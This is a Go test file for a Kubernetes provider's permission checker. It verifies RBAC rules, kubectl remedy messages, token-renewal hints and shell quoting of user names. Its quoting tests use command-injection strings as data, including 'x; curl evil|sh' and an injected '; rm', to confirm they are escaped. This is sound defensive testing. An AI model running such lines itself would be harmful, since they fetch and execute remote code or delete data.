package checks

import (
	"bytes"
	"maps"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	rbacv1 "k8s.io/api/rbac/v1"
	"sigs.k8s.io/yaml"

	manifests "github.com/gardener/machine-controller-manager-provider-kubevirt/kubernetes"
)

// TestPermissionsAreTheShippedOnes compares the checked permissions with the granted ones, part by
// part.
func TestPermissionsAreTheShippedOnes(t *testing.T) {
	t.Parallel()

	asked := func(parts ...*part) map[string]bool {
		set := map[string]bool{}

		for _, r := range permissions() {
			for _, p := range parts {
				if r.part == p {
					addTo(set, []string{r.group}, []string{r.resource}, r.verbs)
				}
			}
		}

		return set
	}

	all := granted(t, "provider-namespace/rbac.yaml")
	require.Equal(t, all, asked(machines, goldenImages, diagnosis))

	maps.Copy(all, granted(t, "evacuation/provider-namespace/rbac.yaml"))
	require.Equal(t, all, asked(machines, goldenImages, diagnosis, evacuation), "both Roles go together")
}

// granted returns the rules of the Roles in a shipped manifest.
func granted(t *testing.T, file string) map[string]bool {
	t.Helper()

	raw, err := manifests.Manifests.ReadFile(file)
	require.NoError(t, err)

	set := map[string]bool{}

	for document := range bytes.SplitSeq(raw, []byte("\n---\n")) {
		var role rbacv1.Role

		require.NoError(t, yaml.Unmarshal(document, &role))

		if role.Kind == "Role" {
			for _, rule := range role.Rules {
				require.Empty(t, rule.ResourceNames)
				addTo(set, rule.APIGroups, rule.Resources, rule.Verbs)
			}
		}
	}

	require.NotEmpty(t, set)

	return set
}

func addTo(set map[string]bool, groups, resources, verbs []string) {
	for _, group := range groups {
		for _, resource := range resources {
			for _, verb := range verbs {
				set[verb+" "+resource+"."+group] = true
			}
		}
	}
}

func user(name string) *identity {
	return &identity{Identity: Identity{Name: Driver, From: "--provider-kubeconfig", User: name}}
}

func TestSubjectFlag(t *testing.T) {
	t.Parallel()

	require.Equal(t, "--serviceaccount=machines:driver", user("system:serviceaccount:machines:driver").subjectFlag())
	require.Equal(t, "--user=jane", user("jane").subjectFlag())
	require.Equal(t, "--user='x; curl evil|sh'", user("x; curl evil|sh").subjectFlag())
	require.Equal(t, "--serviceaccount='a:b'\\''; rm'", user("system:serviceaccount:a:b'; rm").subjectFlag())
	require.Equal(t, "--user=NAME", user("").subjectFlag(), "the user name is unknown")
}

// TestMissingPermissionsAreOneResultPerRole lacks all permissions, as before the Role is applied.
func TestMissingPermissionsAreOneResultPerRole(t *testing.T) {
	t.Parallel()

	c := &checker{namespace: "shoot-machines", driver: user("system:serviceaccount:shoot-machines:machine-controller")}
	got := c.reportMissing(permissions())
	require.Len(t, got, 2)
	require.Equal(t, Error, got[0].Level)
	require.True(t, strings.HasPrefix(got[0].Remedy, "kubectl apply -k kubernetes/provider-namespace"), got[0].Remedy)
	require.Contains(t, got[0].Message, "pods (list)")
	require.Contains(t, got[1].Remedy, "kubectl apply -k kubernetes/evacuation/provider-namespace")
	require.NotContains(t, got[0].Remedy+got[1].Remedy, "rolebinding", "the shipped ones fit")

	c.namespace, c.driver = "others", user("jane")
	require.Equal(t, "set namespace: others in kubernetes/provider-namespace/kustomization.yaml and run: kubectl apply -k kubernetes/provider-namespace"+
		" && kubectl --namespace others create rolebinding machine-controller-driver --role=machine-controller --user=jane", c.grant(machineRole))

	optional := c.reportMissing([]permission{{part: diagnosis, resource: "pods", verbs: []string{"list"}}})
	require.Equal(t, Warning, optional[0].Level, "machines can be created without it")
}

func TestRenewal(t *testing.T) {
	t.Parallel()

	i := user("system:serviceaccount:machines:driver")
	require.Contains(t, i.renewal(), "kubectl --namespace machines create token driver --duration=720h")

	i = user("jane")
	require.NotContains(t, i.renewal(), "kubectl")
	require.Contains(t, i.renewal(), "jane")
}

func TestQuoted(t *testing.T) {
	t.Parallel()

	require.Equal(t, "a-b.c/d:e=f", quoted("a-b.c/d:e=f"))
	require.Equal(t, "'a b'", quoted("a b"))
	require.Equal(t, `'a'\''; b'`, quoted("a'; b"))
	require.Equal(t, "NAME", quoted("--kubeconfig=x"), "not a flag")
	require.Equal(t, "NAME", quoted(""))
}
